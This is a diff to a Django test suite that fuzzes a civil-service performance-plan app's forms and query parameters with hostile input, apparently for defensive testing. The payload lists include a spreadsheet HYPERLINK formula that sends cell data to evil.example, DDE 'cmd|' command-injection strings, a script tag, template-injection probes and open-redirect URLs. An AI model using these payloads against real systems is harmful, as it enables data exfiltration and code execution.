@@ -17,9 +17,10 @@ Each request runs in a savepoint that is rolled back, so every payload meets the
 from collections.abc import Callable
 from dataclasses import dataclass, field
 import datetime
+import io
 import re
 from types import SimpleNamespace
-from urllib.parse import urlencode
+from urllib.parse import urlencode, urlsplit
 
 from django.apps import apps
 from django.contrib.messages import constants as message_levels
@@ -27,6 +28,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection, transaction
 from django.test import Client
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
+import openpyxl
 import pytest
 
 from accounts.tests.factories import PASSWORD
@@ -36,11 +38,12 @@ from skp.services import drafting
 from skp.services.dokumen import minta_batch_dokumen
 from skp.services.workflow import ajukan_skp, beri_dispensasi
 from skp.tests.bantuan_workflow import isi_lengkap
-from skp.tests.drafting_helpers import kuantitas, skp_atasan_dengan_rk, tambah_rk
+from skp.tests.drafting_helpers import skp_atasan_dengan_rk, tambah_rk
 
 pytestmark = pytest.mark.django_db
 
 SCRIPT = "<script>alert(1)</script>"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
 
@@ -53,6 +56,7 @@ TEKS = {
     "template": "zz{{ 7*7 }}zz {% debug %}",
     "html": SCRIPT,
     "100k": "x" * 100_000,
+    "redirect": "//evil.example/",
 }
 ANGKA = {
     "nul": "1\x002",
@@ -181,7 +185,9 @@ KWARGS: dict[str, Callable] = {
     "kpi:kolom_hapus": lambda w: {"pk": w.matriks.pk, "kolom_pk": w.kolom.pk},
     "kpi:sel": lambda w: {"pk": w.matriks.pk, "anggota_pk": w.anggota.pk, "kolom_pk": w.kolom.pk},
     "kpi:sel_ubah": lambda w: {
-        "pk": w.matriks.pk, "anggota_pk": w.anggota.pk, "kolom_pk": w.kolom.pk,
+        "pk": w.matriks.pk,
+        "anggota_pk": w.anggota.pk,
+        "kolom_pk": w.kolom.pk,
     },  # fmt: skip
     "kpi:terapkan": lambda w: {"pk": w.matriks.pk},
     "kpi:matriks_xlsx": lambda w: {"pk": w.matriks.pk},
@@ -210,6 +216,9 @@ class Aksi:
     data: Callable = lambda w: {}
     post_only: bool = True
     files: tuple[str, ...] = field(default=())
+    # The valid submission's answer: 302, or 404 where the URL needs state the table cannot
+    # build (an upload token that lives in another session).
+    baseline: int = 302
 
     def url(self, w) -> str:
         return reverse(self.name, kwargs=KWARGS.get(self.name, TANPA_ARGUMEN)(w))
@@ -231,29 +240,62 @@ def _periode_ini(w) -> dict:
     return {**data, "tahun": str(p.tahun), "profil_regulasi": p.profil_regulasi}
 
 
+def _pegawai_ini(w) -> dict:
+    p = w.pegawai
+    names = ["nama", "gelar_depan", "gelar_belakang", "jenis_asn", "golongan", "jabatan",
+             "jenis_jabatan", "jenjang", "email", "status_kepegawaian"]  # fmt: skip
+    data = {name: str(getattr(p, name, "") or "") for name in names}
+    return {**data, "unit_kerja": str(p.unit_kerja_id)}
+
+
+def xlsx_kosong() -> SimpleUploadedFile:
+    """A real (empty) workbook: what an upload field expects to receive."""
+    buffer = io.BytesIO()
+    openpyxl.Workbook().save(buffer)
+    return SimpleUploadedFile("daftar.xlsx", buffer.getvalue(), content_type=XLSX)
+
+
 AKSI = [
-    Aksi("login", "anon", "pegawai", lambda w: {"username": w.pegawai.nip, "password": PASSWORD},
-         post_only=False),  # fmt: skip
+    Aksi(
+        "login",
+        "anon",
+        "pegawai",
+        lambda w: {"username": w.pegawai.nip, "password": PASSWORD},
+        post_only=False,
+    ),  # fmt: skip
     Aksi("logout", "pegawai", "anon"),
     Aksi(
-        "password_change", "pegawai", "anon", post_only=False,
-        data=lambda w: {"old_password": PASSWORD, "new_password1": "Sandi-Baru-Kuat-2026x",
-                        "new_password2": "Sandi-Baru-Kuat-2026x"},
+        "password_change",
+        "pegawai",
+        "anon",
+        post_only=False,
+        data=lambda w: {
+            "old_password": PASSWORD,
+            "new_password1": "Sandi-Baru-Kuat-2026x",
+            "new_password2": "Sandi-Baru-Kuat-2026x",
+        },
     ),  # fmt: skip
     Aksi("skp:mulai", "atasan_lain", "anon", lambda w: {"periode": str(w.periode.pk)}),
     Aksi(
-        "skp:rk_tambah", "pegawai", "atasan_langsung",
+        "skp:rk_tambah",
+        "pegawai",
+        "atasan_langsung",
         lambda w: {
             "rk-utama-teks": "Tersusunnya laporan kinerja unit",
-            "rk-utama-intervensi": str(w.rk_ketua.pk), "rk-utama-intervensi_teks_bebas": "",
-            "rk-utama-iki_teks": "Jumlah laporan", "rk-utama-iki_target": "12",
+            "rk-utama-intervensi": str(w.rk_ketua.pk),
+            "rk-utama-intervensi_teks_bebas": "",
+            "rk-utama-iki_teks": "Jumlah laporan",
+            "rk-utama-iki_target": "12",
             "rk-utama-iki_satuan": "laporan",
         },
     ),  # fmt: skip
     Aksi(
-        "skp:rk_ubah", "pegawai", "pegawai_lain",
+        "skp:rk_ubah",
+        "pegawai",
+        "pegawai_lain",
         lambda w: {
-            f"rk-{w.rk.pk}-jenis": "utama", f"rk-{w.rk.pk}-teks": "Tersusunnya laporan layanan",
+            f"rk-{w.rk.pk}-jenis": "utama",
+            f"rk-{w.rk.pk}-teks": "Tersusunnya laporan layanan",
             f"rk-{w.rk.pk}-intervensi": str(w.rk_ketua.pk),
             f"rk-{w.rk.pk}-intervensi_teks_bebas": "",
         },
@@ -261,18 +303,26 @@ AKSI = [
     Aksi("skp:rk_hapus", "pegawai", "atasan_langsung"),
     Aksi("skp:rk_pindah", "pegawai", "atasan_langsung", lambda w: {"arah": "turun"}),
     Aksi(
-        "skp:iki_tambah", "pegawai", "atasan_langsung",
+        "skp:iki_tambah",
+        "pegawai",
+        "atasan_langsung",
         lambda w: {
-            f"iki-baru-{w.rk.pk}-aspek": "waktu", f"iki-baru-{w.rk.pk}-teks": "Tepat waktu",
-            f"iki-baru-{w.rk.pk}-target": "12", f"iki-baru-{w.rk.pk}-satuan": "bulan",
+            f"iki-baru-{w.rk.pk}-aspek": "waktu",
+            f"iki-baru-{w.rk.pk}-teks": "Tepat waktu",
+            f"iki-baru-{w.rk.pk}-target": "12",
+            f"iki-baru-{w.rk.pk}-satuan": "bulan",
             f"iki-baru-{w.rk.pk}-arah": "",
         },
     ),  # fmt: skip
     Aksi(
-        "skp:iki_ubah", "pegawai", "atasan_langsung",
+        "skp:iki_ubah",
+        "pegawai",
+        "atasan_langsung",
         lambda w: {
-            f"iki-{w.iki.pk}-aspek": "kuantitas", f"iki-{w.iki.pk}-teks": "Jumlah laporan",
-            f"iki-{w.iki.pk}-target": "80–90", f"iki-{w.iki.pk}-satuan": "%",
+            f"iki-{w.iki.pk}-aspek": "kuantitas",
+            f"iki-{w.iki.pk}-teks": "Jumlah laporan",
+            f"iki-{w.iki.pk}-target": "80–90",
+            f"iki-{w.iki.pk}-satuan": "%",
             f"iki-{w.iki.pk}-arah": "tinggi",
         },
     ),  # fmt: skip
@@ -281,7 +331,10 @@ AKSI = [
     Aksi("skp:salin", "pegawai", "atasan_langsung"),
     Aksi("skp:model_form", "admin", "pegawai", lambda w: {"model_form": "jpt"}),
     Aksi(
-        "skp:uraian_tugas", "pegawai", "atasan_langsung", post_only=False,
+        "skp:uraian_tugas",
+        "pegawai",
+        "atasan_langsung",
+        post_only=False,
         data=lambda w: {"teks": "Mengelola server\nMenyusun laporan", "kembali": "/skp/"},
     ),  # fmt: skip
     Aksi("skp:periode_tambah", "admin", "pegawai", _periode_baru, post_only=False),
@@ -289,64 +342,118 @@ AKSI = [
     Aksi("skp:ajukan", "pegawai", "atasan_langsung", post_only=False),
     Aksi("skp:setujui", "atasan_lain", "pegawai_lain", post_only=False),
     Aksi(
-        "skp:kembalikan", "atasan_lain", "pegawai_lain", post_only=False,
+        "skp:kembalikan",
+        "atasan_lain",
+        "pegawai_lain",
+        post_only=False,
         data=lambda w: {"catatan": "Naikkan target kuantitasnya."},
     ),  # fmt: skip
-    Aksi("skp:komentar", "atasan_lain", "pegawai_lain",
-         lambda w: {"butir": "", "teks": "Rinci waktunya."}),  # fmt: skip
     Aksi(
-        "skp:dispensasi_tambah", "admin", "pegawai",
+        "skp:komentar",
+        "atasan_lain",
+        "pegawai_lain",
+        lambda w: {"butir": "", "teks": "Rinci waktunya."},
+    ),  # fmt: skip
+    Aksi(
+        "skp:dispensasi_tambah",
+        "admin",
+        "pegawai",
         lambda w: {
-            "periode": str(w.periode.pk), "tahap": "validasi", "nip": w.pegawai_lain.nip,
-            "unit_kerja": "", "alasan": "Sakit",
+            "periode": str(w.periode.pk),
+            "tahap": "validasi",
+            "nip": w.pegawai_lain.nip,
+            "unit_kerja": "",
+            "alasan": "Sakit",
             "berlaku_sampai": f"{w.periode.validasi_selesai + datetime.timedelta(days=3):%Y-%m-%d}",
         },
     ),  # fmt: skip
-    Aksi("skp:batch_minta", "admin", "pegawai",
-         lambda w: {"unit_kerja": str(w.unit_a.pk), "periode": str(w.periode.pk)}),  # fmt: skip
     Aksi(
-        "kpi:matriks_buat", "atasan_lain", "anon",
-        lambda w: {"nama": "Tim Unit B", "periode": str(w.periode.pk),
-                   "unit_kerja": str(w.unit_b.pk), "isi_anggota_unit": "on"},
+        "skp:batch_minta",
+        "admin",
+        "pegawai",
+        lambda w: {"unit_kerja": str(w.unit_a.pk), "periode": str(w.periode.pk)},
     ),  # fmt: skip
-    Aksi("kpi:anggota_tambah", "atasan_langsung", "pegawai",
-         lambda w: {"nip": w.atasan_lain.nip}),  # fmt: skip
+    Aksi(
+        "kpi:matriks_buat",
+        "atasan_lain",
+        "anon",
+        lambda w: {
+            "nama": "Tim Unit B",
+            "periode": str(w.periode.pk),
+            "unit_kerja": str(w.unit_b.pk),
+            "isi_anggota_unit": "on",
+        },
+    ),  # fmt: skip
+    Aksi(
+        "kpi:anggota_tambah", "atasan_langsung", "pegawai", lambda w: {"nip": w.atasan_lain.nip}
+    ),  # fmt: skip
     Aksi("kpi:anggota_hapus", "atasan_langsung", "pegawai"),
-    Aksi("kpi:kolom_tambah", "atasan_langsung", "pegawai",
-         lambda w: {"rencana_kinerja": "", "kpi": "", "judul": "Tersedianya data tim"}),  # fmt: skip
+    Aksi(
+        "kpi:kolom_tambah",
+        "atasan_langsung",
+        "pegawai",
+        lambda w: {"rencana_kinerja": "", "kpi": "", "judul": "Tersedianya data tim"},
+    ),  # fmt: skip
     Aksi("kpi:kolom_hapus", "atasan_langsung", "pegawai"),
     Aksi(
-        "kpi:sel_ubah", "atasan_langsung", "pegawai", post_only=False,
+        "kpi:sel_ubah",
+        "atasan_langsung",
+        "pegawai",
+        post_only=False,
         data=lambda w: {
-            "is_na": "", "ph-TOTAL_FORMS": "1", "ph-INITIAL_FORMS": "0",
-            "ph-MIN_NUM_FORMS": "0", "ph-MAX_NUM_FORMS": "5",
-            "ph-0-teks": "Tersusunnya laporan server", "ph-0-indikator": "Jumlah laporan",
-            "ph-0-target": "12", "ph-0-satuan": "laporan",
+            "is_na": "",
+            "ph-TOTAL_FORMS": "1",
+            "ph-INITIAL_FORMS": "0",
+            "ph-MIN_NUM_FORMS": "0",
+            "ph-MAX_NUM_FORMS": "5",
+            "ph-0-teks": "Tersusunnya laporan server",
+            "ph-0-indikator": "Jumlah laporan",
+            "ph-0-target": "12",
+            "ph-0-satuan": "laporan",
         },
     ),  # fmt: skip
     Aksi("kpi:terapkan", "atasan_langsung", "pegawai"),
     Aksi(
-        "kpi:tambah", "atasan_langsung", "pegawai",
-        lambda w: {"unit": str(w.unit_a.pk), "pernyataan": "Layanan tersedia 99%",
-                   "target": "99,5", "satuan": "%"},
+        "kpi:tambah",
+        "atasan_langsung",
+        "pegawai",
+        lambda w: {
+            "unit": str(w.unit_a.pk),
+            "pernyataan": "Layanan tersedia 99%",
+            "target": "99,5",
+            "satuan": "%",
+        },
     ),  # fmt: skip
-    Aksi("kpi:ubah", "atasan_langsung", "pegawai", post_only=False,
-         data=lambda w: {"pernyataan": "Semua server terbackup", "target": "7",
-                         "satuan": "kali"}),  # fmt: skip
+    Aksi(
+        "kpi:ubah",
+        "atasan_langsung",
+        "pegawai",
+        post_only=False,
+        data=lambda w: {"pernyataan": "Semua server terbackup", "target": "7", "satuan": "kali"},
+    ),  # fmt: skip
     Aksi("kpi:hapus", "atasan_langsung", "pegawai"),
     # Roster import (issue 3), fuzzed once that branch lands; skipped while its URLs are absent.
     Aksi(
-        "accounts:roster_impor", "admin", "pegawai", post_only=False, files=("berkas",),
+        "accounts:roster_impor",
+        "admin",
+        "pegawai",
+        post_only=False,
+        files=("berkas",),
         data=lambda w: {"periode": str(w.periode.pk)},
     ),  # fmt: skip
-    Aksi("accounts:roster_terapkan", "admin", "pegawai"),
-    Aksi("accounts:roster_batal", "admin", "pegawai"),
+    Aksi("accounts:roster_terapkan", "admin", "pegawai", baseline=404),
+    Aksi("accounts:roster_batal", "admin", "pegawai", baseline=404),
     Aksi(
-        "accounts:supervisi_ubah", "admin", "pegawai", post_only=False,
-        data=lambda w: {"atasan_langsung": w.atasan_langsung.nip,
-                        "atasan_penilai": w.atasan_penilai.nip},
+        "accounts:supervisi_ubah",
+        "admin",
+        "pegawai",
+        post_only=False,
+        data=lambda w: {
+            "atasan_langsung": w.atasan_langsung.nip,
+            "atasan_penilai": w.atasan_penilai.nip,
+        },
     ),  # fmt: skip
-    Aksi("accounts:pegawai_ubah", "admin", "pegawai", post_only=False),
+    Aksi("accounts:pegawai_ubah", "admin", "pegawai", post_only=False, data=_pegawai_ini),
 ]
 AKSI_BY_NAME = {a.name: a for a in AKSI}
 
@@ -395,8 +502,7 @@ def snapshot() -> dict[str, str]:
     """A digest of every row of our apps' tables, in one query."""
     qn = connection.ops.quote_name
     sql = " UNION ALL ".join(
-        f"SELECT '{t}', md5(coalesce(string_agg(r::text, '|' ORDER BY r::text), '')) "
-        f"FROM {qn(t)} r"
+        f"SELECT '{t}', md5(coalesce(string_agg(r::text, '|' ORDER BY r::text), '')) FROM {qn(t)} r"
         for t in _tables()
     )
     with connection.cursor() as cursor:
@@ -462,6 +568,9 @@ def masalah_tampilan(hasil: Hasil) -> list[str]:
         found.append("{% debug %} dievaluasi")
     if len(hasil.page) > 1_000_000:
         found.append(f"jawaban {len(hasil.page):,} bita: masukan kecil memperbesar pekerjaan")
+    lokasi = urlsplit(hasil.headers.get("Location", ""))
+    if lokasi.scheme or lokasi.netloc or lokasi.path.startswith("/\\"):
+        found.append(f"redirect ke luar: {hasil.headers['Location']}")
     for name, value in hasil.headers.items():
         if re.search(r"[\x00-\x1f\x7f]", value):
             found.append(f"karakter kendali di header {name}")
@@ -488,24 +597,26 @@ def test_valid_submission_is_accepted_and_hostile_input_never_breaks_a_form(duni
     url = aksi.url(dunia)
     valid = aksi.data(dunia)
     client = client_for(dunia, aksi.allowed)
-    data = dict(valid)
-    for name in aksi.files:
-        data[name] = SimpleUploadedFile("x.xlsx", b"", content_type="application/octet-stream")
+
+    def lengkap(**ganti):
+        return {**valid, **{name: xlsx_kosong() for name in aksi.files}, **ganti}
+
     # The valid submission is accepted, so a hostile value in one field reaches the service.
-    hasil = kirim(client, url, data)
-    assert (hasil.status, hasil.errors, hasil.exc) == (302, [], ""), hasil.page[:3000]
+    hasil = kirim(client, url, lengkap())
+    assert (hasil.status, hasil.errors, hasil.exc) == (aksi.baseline, [], ""), hasil.page[:3000]
 
     failures = []
     # The allowed user: each field in turn, the others valid, plus a junk field.
-    for name in valid or ["zz_tambahan"]:
+    for name in [*valid, *aksi.files] or ["zz_tambahan"]:
         for payload, value in hostile_for(valid.get(name, "")).items():
-            hasil = kirim(client, url, {**valid, name: value, "zz_sampah": value},
+            hasil = kirim(client, url, lengkap(**{name: value, "zz_sampah": value}),
                           tampilkan=payload in DISPLAY)  # fmt: skip
             failures += periksa(hasil, f"POST {url} {name}={payload}", boleh_mengubah=True)
     # A user who may not: every field hostile at once; refused, nothing written.
     other = client_for(dunia, aksi.other)
-    for payload, value in HOSTILE.items():
-        hasil = kirim(other, url, {name: value for name in [*valid, "zz_sampah"]})
+    for payload in ("nul", "html", "100k", "20 digit", "30 Feb"):
+        value = HOSTILE[payload]
+        hasil = kirim(other, url, dict.fromkeys([*valid, "zz_sampah"], value))
         failures += periksa(hasil, f"POST {url} semua={payload} ({aksi.other})",
                             boleh_mengubah=False)  # fmt: skip
         if hasil.status not in (302, 403, 404):
@@ -555,6 +666,51 @@ def test_no_csrf_token_oversized_bodies_and_field_floods_are_refused(dunia, aksi
         status = client.get(url).status_code
         if status != 405:
             failures.append(f"GET {url}: {status}, seharusnya 405")
+    assert not failures, "\n".join(failures)
+
+
+@pytest.mark.parametrize("role", ["anon", "admin"])
+def test_a_body_over_the_cap_is_refused_with_413_before_it_is_read(dunia, settings, role):
+    """Fuzz finding: any POST, even anonymous, streamed a file of any size to disk."""
+    settings.MAX_REQUEST_BYTES = 1024 * 1024
+    client = client_for(dunia, role)
+    berkas = SimpleUploadedFile("besar.xlsx", b"\0" * (1024 * 1024 + 1))
+    for url in (reverse("login"), reverse("skp:batch_minta")):
+        hasil = kirim(client, url, {"periode": str(dunia.periode.pk), "berkas": berkas})
+        berkas.seek(0)
+        assert hasil.status == 413 and "maksimal 1 MB" in hasil.page.decode()
+        assert not hasil.changed
+    kecil = {"berkas": SimpleUploadedFile("kecil.xlsx", b"x")}
+    assert client.post(reverse("login"), kecil).status_code in (200, 302)
+
+
+GET_ROLE = {"skp:detail": "pegawai", "kpi:matriks": "atasan_langsung", "kpi:sel": "atasan_langsung"}
+QUERY = [
+    dict.fromkeys(["tahun", "periode", "ubah_rk", "ubah_iki", "unit", "page", "kembali"], "²"),
+    {
+        "tahun": "\x00", "periode": "99999999999999999999", "ubah_rk": "99999999999999999999",
+        "ubah_iki": "-1", "kembali": "//evil.example/", "next": "https://evil.example/",
+        "q": f"{SCRIPT} zz{{{{ 7*7 }}}}zz", "unit": "\x00", "status": SCRIPT, "page": "1e309",
+    },
+]  # fmt: skip
+
+
+def test_hostile_query_parameters_never_break_a_page(dunia):
+    """The query parameters pages read (tahun, periode, ubah_rk, kembali…) and junk ones."""
+    failures = []
+    clients = {}
+    for name, _ in _url_names():
+        if name in ("logout", "skp:pdf", "kpi:matriks_pdf"):  # POST-only; PDFs read no query
+            continue
+        role = AKSI_BY_NAME[name].allowed if name in AKSI_BY_NAME else GET_ROLE.get(name, "admin")
+        client = clients.setdefault(role, client_for(dunia, role))
+        url = reverse(name, kwargs=KWARGS.get(name, TANPA_ARGUMEN)(dunia))
+        for query in QUERY:
+            response = client.get(url, query)
+            exc = getattr(response, "exc_info", None)
+            hasil = Hasil(response.status_code, False, [], response.content,
+                          dict(response.items()), repr(exc[1]) if exc else "")  # fmt: skip
+            failures += periksa(hasil, f"GET {url}?{urlencode(query)[:60]}", boleh_mengubah=False)
     assert not failures, "\n".join(failures)
 
 
